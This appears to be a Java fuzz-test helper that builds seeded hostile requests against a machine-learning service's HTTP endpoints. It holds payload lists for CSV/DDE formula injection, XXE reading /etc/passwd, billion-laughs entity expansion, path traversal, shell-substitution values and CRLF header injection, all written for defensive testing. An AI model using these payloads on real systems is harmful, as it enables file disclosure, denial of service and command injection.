package io.bulwark.functions.http;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.GZIPOutputStream;

/**
 * Hostile requests to every POST function, drawn from a seeded {@link Random}: the same seed gives the same cases in
 * the same order. Each case belongs to one {@link Category}; admin functions get the right token, a wrong one or none.
 * No input contains the words {@link FuzzIT} looks for in answers (library names), so an echo of the input is never
 * mistaken for a leak.
 */
final class FuzzCases {

    /** What a case attacks. */
    enum Category {
        RANDOM_BYTES, TRUNCATED, DEEP_NESTING, HUGE_NUMBERS, LONE_SURROGATES, DUPLICATE_KEYS, CONTENT_TYPES,
        CSV_INJECTION, XML_ATTACKS, HEADER_PATHS
    }

    /** One request: {@code body} as sent on the wire (before any decoding the dispatcher does). */
    record Case(int index, Category category, String method, String path, Map<String, String> headers, byte[] body,
                boolean mayTrain) {

        boolean admin() {
            return ADMIN.contains(FunctionDispatcher.name(path));
        }

        Case withHeader(String name, String value) {
            Map<String, String> h = new LinkedHashMap<>(headers);
            if (value == null) {
                h.remove(name);
            } else {
                h.put(name, value);
            }
            return new Case(index, category, method, path, h, body, mayTrain);
        }

        /** A line to reproduce the case by: index, category, request, the body's start with bytes escaped. */
        String describe() {
            StringBuilder b = new StringBuilder();
            for (int i = 0; i < Math.min(body.length, 160); i++) {
                int c = body[i] & 0xFF;
                b.append(c >= 0x20 && c < 0x7F ? String.valueOf((char) c) : String.format("\\x%02x", c));
            }
            Map<String, String> h = new LinkedHashMap<>();
            headers.forEach((k, v) -> h.put(k, v.length() > 60 ? v.substring(0, 60) + "...(" + v.length() + ")" : v));
            return "#" + index + " " + category + " " + method + " " + path + " " + h + " body(" + body.length
                    + "): " + b + (body.length > 160 ? "..." : "");
        }
    }

    static final List<String> FUNCTIONS = List.of("sentiment", "predict", "predict_batch", "train", "promote", "rollback");
    static final List<String> ADMIN = List.of("train", "promote", "rollback");

    static final String ROW = "{\"island\": \"Biscoe\", \"bill_length_mm\": 48.6, \"bill_depth_mm\": 16.0, "
            + "\"flipper_length_mm\": 230, \"body_mass_g\": 5800, \"sex\": \"male\"}";
    static final String CSV_HEADER = "island,bill_length_mm,bill_depth_mm,flipper_length_mm,body_mass_g,sex\n";
    static final String CSV_ROW = "Dream,46.5,17.9,192,3500,female\n";
    static final String XML_ROW = "<penguin><island>Torgersen</island><bill_length_mm>39.1</bill_length_mm>"
            + "<bill_depth_mm>18.7</bill_depth_mm><flipper_length_mm>181</flipper_length_mm>"
            + "<body_mass_g>3750</body_mass_g><sex>MALE</sex></penguin>";

    private static final String[] HUGE = {"1e999999", "-1e999999", "1e-400", "9223372036854775808",
            "-9223372036854775809", "-0", "-0.0", "1.7976931348623157e309", "4.9e-325", "123456789012345678901234567890",
            "0.0000000000000000000000000000000000001", "1" + "0".repeat(999), "1" + "0".repeat(1001), "1." + "5".repeat(1500),
            "NaN", "Infinity", "-Infinity", "1E+2147483648", "0x10", "01", "1e", ".5", "5."};
    private static final String[] SURROGATES = {"\\ud800", "\\udc00", "\\ud800\\ud800", "\\udfff\\ud800", "a\\ud83d",
            "\\ud83d\\ude00", "\\u0000", "\\uFFFF", "\\uD800x"};
    /** Invalid UTF-8: an encoded surrogate, an overlong NUL, a stray continuation byte, a byte never used. */
    private static final byte[][] BAD_UTF8 = {{(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xC0, (byte) 0x80},
            {(byte) 0x80}, {(byte) 0xFF}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}};
    private static final String[] CONTENT_TYPES = {"application/json; charset=utf-16", "application/json; charset=bogus",
            "application/json;charset=\"utf-8\"", "application/json; charset=", "application/json;;", "APPLICATION/JSON",
            "application/problem+json", "text/plain; charset=iso-8859-1", "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded", "*/*", "application/*", "text/csv; header=absent", "text/csv; charset=utf-16",
            "application/soap+xml", "text/xml; charset=ebcdic", ";", "json", "/", "application/json, text/csv",
            "application/" + "j".repeat(3000), "application/octet-stream", "image/png", "text/html", "application/json\t"};
    private static final String[] CONTENT_ENCODINGS = {"br", "deflate", "gzip, identity", "GZIP", "x-gzip", "identity",
            "compress", "gzip;q=1", "*"};
    private static final String[] FORMULAS = {"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)",
            "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "\t=1+1", "\r=1", "=1+1;", "'=1", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"};
    private static final String[] XML = {
            "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY x \"Biscoe\">]><penguin><island>&x;</island></penguin>",
            "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><penguin><island>&x;</island></penguin>",
            "<!DOCTYPE p [<!ENTITY x SYSTEM \"http://127.0.0.1:9/x\">]><penguin><island>&x;</island></penguin>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                    + "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">"
                    + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><penguin><island>&lol3;</island></penguin>",
            "<!DOCTYPE p [<!ENTITY % d SYSTEM \"http://127.0.0.1:9/d.dtd\"> %d;]><penguin/>",
            "<!DOCTYPE p SYSTEM \"file:///etc/passwd\"><penguin/>",
            "<penguin xmlns:xi=\"http://www.w3.org/2001/XInclude\"><island><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></island></penguin>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"http://127.0.0.1:9/x.xsl\"?>" + XML_ROW,
            "<penguin><island><![CDATA[Biscoe]]></island><bill_length_mm>48.6</bill_length_mm></penguin>",
            "<penguin><island>&amp;&lt;&#x41;&#65;&#0;</island></penguin>",
            "<penguin><island>&#xD800;</island></penguin>",
            "<penguin island=\"Biscoe\" island=\"Dream\"/>",
            "<p:penguin/>",
            "<penguin a=\"" + "x".repeat(100_000) + "\"/>",
            "<?xml version=\"1.1\"?><penguin/>",
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><penguin/>",
            "<?xml version=\"1.0\" encoding=\"nope\"?><penguin/>",
            "<penguins>" + XML_ROW + "</penguins><trailing/>",
            "<penguins>" + XML_ROW + XML_ROW + "</penguins>",
            "<penguins><penguin><island><island><island>Biscoe</island></island></island></penguin></penguins>",
            "</penguin>", "<>", "<penguin>", "<!-- only a comment -->", "<?pi?>", "<penguin/><!--",
    };
    private static final String[] VERSIONS = {"../../etc", "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd",
            "v1/../../..", "%2e%2e%2f%2e%2e", "..", ".", "./v1", "v1/", "v1/model.tribuo", "promotion.json", "~root",
            "v1\u0000", "v1%00", "", " ", "V1", "v01", "v0", "v-1", "v99999999999999999999999", "v1;touch x", "$(id)",
            "v" + "1".repeat(5000), "C:\\v1", "\\\\host\\share", "v1\r\nX-Injected: 1", "v\u00b9", "\u0076\u0031\u202e"};

    private final Random random;
    private final String token;

    FuzzCases(long seed, String token) {
        this.random = new Random(seed);
        this.token = token;
    }

    /** Returns the next case. */
    Case next(int index) {
        Category category = Category.values()[random.nextInt(Category.values().length)];
        // CSV and XML are read by the classifier only: most of those cases go to it, the rest test the 415s.
        boolean classifier = (category == Category.CSV_INJECTION || category == Category.XML_ATTACKS) && random.nextInt(5) > 0;
        String function = classifier ? pick(List.of("predict", "predict_batch")) : pick(FUNCTIONS);
        Map<String, String> headers = new LinkedHashMap<>();
        byte[] body = switch (category) {
            case RANDOM_BYTES -> randomBytes(headers);
            case TRUNCATED -> truncated(function, headers);
            case DEEP_NESTING -> deep(function, headers);
            case HUGE_NUMBERS -> withValue(function, pick(List.of(HUGE)), headers);
            case LONE_SURROGATES -> surrogates(function, headers);
            case DUPLICATE_KEYS -> duplicates(function, headers);
            case CONTENT_TYPES -> oddEncoding(function, headers);
            case CSV_INJECTION -> formulas(function, headers);
            case XML_ATTACKS -> xml(headers);
            case HEADER_PATHS -> headerTricks(function, headers);
        };
        if (ADMIN.contains(function) && !headers.containsKey("Authorization")) {
            switch (random.nextInt(4)) {
                case 0, 1 -> headers.put("Authorization", "Bearer " + token);
                case 2 -> headers.put("Authorization", "Bearer not-" + token);
                default -> {
                    // none
                }
            }
        }
        String method = random.nextInt(40) == 0 ? pick(List.of("GET", "PUT", "DELETE", "PATCH")) : "POST";
        String path = "/" + function + (random.nextInt(20) == 0 ? "/" : "");
        // Only these keep an ordinary /train body (or send none, which trains with the defaults); every other category
        // breaks the body, so the caller can cap the trains by this flag alone.
        boolean mayTrain = function.equals("train") && (category == Category.CONTENT_TYPES
                || category == Category.HEADER_PATHS || category == Category.HUGE_NUMBERS
                || new String(body, StandardCharsets.ISO_8859_1).isBlank());
        return new Case(index, category, method, path, headers, body, mayTrain);
    }

    /** The function's ordinary body in a random format it reads, setting its Content-Type (or not). */
    private String valid(String function, Map<String, String> headers) {
        String format = function.startsWith("predict") ? pick(List.of("json", "csv", "xml")) : "json";
        headers.put("Content-Type", switch (format) {
            case "csv" -> "text/csv";
            case "xml" -> "application/xml";
            default -> "application/json";
        });
        boolean batch = function.equals("predict_batch");
        return switch (function) {
            case "sentiment" -> "{\"text\": \"I love this, it works great\", \"user_id\": \"fuzz\"}";
            case "train" -> pick(List.of("{\"algorithm\": \"cart\", \"hyperparameters\": {\"max_depth\": 3}, \"seed\": 7}",
                    "{\"algorithm\": \"random_forest\", \"hyperparameters\": {\"trees\": 5, \"feature_fraction\": 1}}",
                    "{\"algorithm\": \"logistic_regression\", \"hyperparameters\": {\"epochs\": 2}}"));
            case "promote" -> "{\"version\": \"v1\"}";
            case "rollback" -> "";
            default -> switch (format) {
                case "csv" -> CSV_HEADER + CSV_ROW + (batch ? CSV_ROW : "");
                case "xml" -> batch ? "<penguins>" + XML_ROW + XML_ROW + "</penguins>" : XML_ROW;
                default -> batch ? "[" + ROW + ", " + ROW + "]" : ROW;
            };
        };
    }

    private byte[] randomBytes(Map<String, String> headers) {
        byte[] b = new byte[random.nextInt(300)];
        random.nextBytes(b);
        if (b.length > 0 && random.nextBoolean()) {
            b[0] = (byte) "{[<\"a".charAt(random.nextInt(5)); // past the format sniffing more often
        }
        maybeContentType(headers, List.of("application/json", "text/csv", "application/xml", "text/plain"));
        return b;
    }

    private byte[] truncated(String function, Map<String, String> headers) {
        byte[] b = utf8(valid(function, headers));
        return java.util.Arrays.copyOf(b, b.length == 0 ? 0 : random.nextInt(b.length));
    }

    private byte[] deep(String function, Map<String, String> headers) {
        int depth = pick(List.of(100, 499, 500, 501, 1000, 5000, 20_000));
        boolean closed = random.nextBoolean();
        if (function.startsWith("predict") && random.nextInt(3) == 0) {
            headers.put("Content-Type", "application/xml");
            String open = "<a>".repeat(depth);
            String inner = open + "Biscoe" + (closed ? "</a>".repeat(depth) : "");
            return utf8(function.equals("predict_batch") ? "<penguins><penguin><island>" + inner + "</island></penguin>"
                    + XML_ROW + "</penguins>" : "<penguin><island>" + inner + "</island></penguin>");
        }
        headers.put("Content-Type", "application/json");
        if (function.equals("predict_batch") && random.nextInt(3) == 0) {
            // A row that is itself an array, broken inside (these escaped as 500s before issue 19).
            return utf8("[" + ROW + ", " + pick(List.of("[1,]", "[{8}]", "[[1,2],[3,]]", "[{\"a\":}]", "[\"x\" \"y\"]", "[1 2]",
                    "[" + "[".repeat(depth), "[" + "{\"a\":[".repeat(depth))) + (closed ? ", " + ROW + "]" : ""));
        }
        String arrays = "[".repeat(depth) + (closed ? "]".repeat(depth) : "");
        String objects = "{\"a\":".repeat(depth) + "1" + (closed ? "}".repeat(depth) : "");
        String nest = random.nextBoolean() ? arrays : objects;
        String field = switch (function) {
            case "sentiment" -> "text";
            case "train" -> pick(List.of("hyperparameters", "seed", "algorithm"));
            case "promote" -> "version";
            default -> "island";
        };
        return utf8(switch (random.nextInt(3)) {
            case 0 -> nest;
            case 1 -> function.equals("predict_batch") ? "[" + nest + ", " + ROW + "]" : "{\"" + field + "\": " + nest + "}";
            default -> function.equals("predict_batch") ? "[" + ROW + ", {\"island\": " + nest + "}]"
                    : "[{\"" + field + "\": " + nest + "}]";
        });
    }

    /** The function's body with one value replaced by {@code value} (raw JSON or text in CSV/XML). */
    private byte[] withValue(String function, String value, Map<String, String> headers) {
        String body = valid(function, headers);
        String type = headers.get("Content-Type");
        return utf8(switch (function) {
            case "sentiment" -> pick(List.of("{\"text\": " + value + "}", "{\"text\": \"ok\", \"user_id\": " + value + "}"));
            case "train" -> pick(List.of("{\"algorithm\": \"cart\", \"hyperparameters\": {\"max_depth\": " + value + "}}",
                    "{\"algorithm\": \"cart\", \"hyperparameters\": {\"min_child_weight\": " + value + "}}",
                    "{\"algorithm\": \"random_forest\", \"hyperparameters\": {\"feature_fraction\": " + value + "}}",
                    "{\"algorithm\": \"logistic_regression\", \"hyperparameters\": {\"learning_rate\": " + value + "}}",
                    "{\"seed\": " + value + "}", "{\"algorithm\": " + value + "}"));
            case "promote" -> "{\"version\": " + value + "}";
            case "rollback" -> value;
            default -> {
                String field = pick(List.of("bill_length_mm", "bill_depth_mm", "flipper_length_mm", "body_mass_g"));
                if (type.equals("text/csv")) {
                    yield body.replace("46.5", value).replace("17.9", value);
                }
                if (type.equals("application/xml")) {
                    yield body.replace("39.1", value);
                }
                yield body.replaceFirst("\"" + field + "\": [0-9.]+", "\"" + field + "\": " + value);
            }
        });
    }

    private byte[] surrogates(String function, Map<String, String> headers) {
        if (random.nextBoolean()) {
            String s = pick(List.of(SURROGATES));
            String body = switch (function) {
                case "sentiment" -> "{\"text\": \"hi " + s + "\", \"user_id\": \"" + s + "\"}";
                case "train" -> pick(List.of("{\"algorithm\": \"" + s + "\"}", "{\"hyperparameters\": {\"" + s + "\": 1}}"));
                case "promote" -> "{\"version\": \"v" + s + "\"}";
                case "rollback" -> "\"" + s + "\"";
                default -> random.nextBoolean() ? ROW.replace("Biscoe", s) : ROW.replace("\"sex\"", "\"" + s + "\"");
            };
            headers.put("Content-Type", "application/json");
            return utf8(function.equals("predict_batch") ? "[" + body + "]" : body);
        }
        // Raw invalid UTF-8 inside a string (or a CSV/XML value) of the ordinary body.
        String body = valid(function, headers);
        byte[] bad = BAD_UTF8[random.nextInt(BAD_UTF8.length)];
        String marker = body.contains("Biscoe") ? "Biscoe" : body.contains("Dream") ? "Dream"
                : body.contains("Torgersen") ? "Torgersen" : body.contains("love") ? "love" : body.contains("cart") ? "cart" : "v1";
        int at = body.indexOf(marker);
        if (at < 0) {
            return bad;
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8(body.substring(0, at)));
        out.writeBytes(bad);
        out.writeBytes(utf8(body.substring(at)));
        return out.toByteArray();
    }

    private byte[] duplicates(String function, Map<String, String> headers) {
        String body = valid(function, headers);
        String type = headers.get("Content-Type");
        if (type.equals("text/csv")) {
            return utf8(body.replaceFirst("island,", "island,island,").replaceAll("(?m)^(Dream),", "$1,Biscoe,"));
        }
        if (type.equals("application/xml")) {
            return utf8(body.replace("<penguin>", "<penguin island=\"Dream\" island=\"Biscoe\">")
                    .replace("<sex>MALE</sex>", "<sex>MALE</sex><sex>female</sex>"));
        }
        return utf8(switch (function) {
            case "sentiment" -> "{\"text\": \"good\", \"text\": \"bad\"}";
            case "train" -> pick(List.of("{\"algorithm\": \"cart\", \"algorithm\": \"random_forest\"}",
                    "{\"hyperparameters\": {\"epochs\": 1, \"epochs\": 1000}}", "{\"seed\": 1, \"seed\": 2}"));
            case "promote" -> "{\"version\": \"v1\", \"version\": \"v2\"}";
            case "rollback" -> "{\"a\": 1, \"a\": 2}";
            default -> body.replace("\"sex\": \"male\"", "\"sex\": \"male\", \"island\": \"Dream\"");
        });
    }

    private byte[] oddEncoding(String function, Map<String, String> headers) {
        String body = valid(function, headers);
        switch (random.nextInt(4)) {
            case 0 -> {
                headers.put("Content-Type", pick(List.of(CONTENT_TYPES)));
                return utf8(body);
            }
            case 1 -> {
                Charset cs = pick(List.of(StandardCharsets.UTF_16, StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE,
                        Charset.forName("UTF-32"), StandardCharsets.ISO_8859_1));
                if (random.nextBoolean()) {
                    headers.put("Content-Type", headers.get("Content-Type") + "; charset=" + cs.name().toLowerCase());
                }
                return body.getBytes(cs);
            }
            case 2 -> {
                headers.put("Content-Encoding", pick(List.of(CONTENT_ENCODINGS)));
                return random.nextBoolean() ? gzip(utf8(body)) : utf8(body);
            }
            default -> {
                headers.put("Content-Encoding", "gzip");
                byte[] gz = gzip(utf8(body));
                return switch (random.nextInt(5)) {
                    case 0 -> java.util.Arrays.copyOf(gz, Math.max(1, random.nextInt(gz.length))); // truncated
                    case 1 -> { // the gzip magic, then garbage
                        byte[] g = new byte[10 + random.nextInt(100)];
                        random.nextBytes(g);
                        g[0] = 0x1f;
                        g[1] = (byte) 0x8b;
                        g[2] = 8;
                        yield g;
                    }
                    case 2 -> { // a flipped byte inside the deflate stream (the CRC catches it, or the inflater does)
                        gz[10 + random.nextInt(gz.length - 18)] ^= (byte) (1 + random.nextInt(255));
                        yield gz;
                    }
                    case 3 -> gzip(gz); // gzip twice: decoded once, the function sees gzip bytes
                    default -> gzip(new byte[0]);
                };
            }
        }
    }

    private byte[] formulas(String function, Map<String, String> headers) {
        String f = pick(List.of(FORMULAS));
        String csvCell = "\"" + f.replace("\"", "\"\"") + "\"";
        String json = f.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\r", "\\r");
        if (function.startsWith("predict")) {
            headers.put("Content-Type", "text/csv");
            String row = switch (random.nextInt(4)) {
                case 0 -> csvCell + ",46.5,17.9,192,3500,female\n";
                case 1 -> "Dream," + csvCell + ",17.9,192,3500,female\n";
                case 2 -> "Dream,46.5,17.9,192,3500," + csvCell + "\n";
                default -> "Dream,46.5,17.9,192,3500,female," + csvCell + "\n";
            };
            String header = row.chars().filter(c -> c == ',').count() > 5 ? CSV_HEADER.strip() + "," + csvCell + "\n" : CSV_HEADER;
            if (random.nextInt(3) == 0) {
                headers.put("Content-Type", "application/json");
                String r = ROW.replace("Biscoe", json);
                return utf8(function.equals("predict") ? r : "[" + r + "]");
            }
            return utf8(header + row + (function.equals("predict_batch") ? CSV_ROW : ""));
        }
        headers.put("Content-Type", "application/json");
        return utf8(switch (function) {
            case "sentiment" -> "{\"text\": \"" + json + "\", \"user_id\": \"" + json + "\"}";
            case "train" -> "{\"algorithm\": \"" + json + "\"}";
            case "promote" -> "{\"version\": \"" + json + "\"}";
            default -> "{\"" + json + "\": 1}";
        });
    }

    private byte[] xml(Map<String, String> headers) {
        String body = pick(List.of(XML));
        maybeContentType(headers, List.of("application/xml", "text/xml", "application/atom+xml", "text/plain"));
        return utf8(body);
    }

    private byte[] headerTricks(String function, Map<String, String> headers) {
        String body = valid(function, headers);
        String v = pick(List.of(VERSIONS));
        switch (random.nextInt(4)) {
            case 0, 1 -> headers.put("X-Model-Version", v);
            case 2 -> headers.put("X-Request-Id", pick(List.of(v, "id\r\nSet-Cookie: a=b", "x".repeat(10_000), "<script>",
                    "../../etc/passwd", "#1")));
            default -> headers.put("Authorization", pick(List.of("Bearer ../../etc", "Bearer " + v, "Basic Og==", "Bearer",
                    "bearer " + token, "Bearer  " + token, "Bearer " + token + "\u0000", "Bearer " + token + "," + token,
                    "Bearer " + "a".repeat(10_000), "Bearer \u00e9")));
        }
        if (function.equals("promote") && random.nextBoolean()) {
            return utf8("{\"version\": \"" + v.replace("\\", "\\\\").replace("\r", "\\r").replace("\n", "\\n")
                    .replace("\u0000", "\\u0000") + "\"}");
        }
        return utf8(body);
    }

    private void maybeContentType(Map<String, String> headers, List<String> types) {
        if (random.nextInt(4) > 0) {
            headers.put("Content-Type", pick(types));
        }
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] gzip(byte[] b) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(b);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
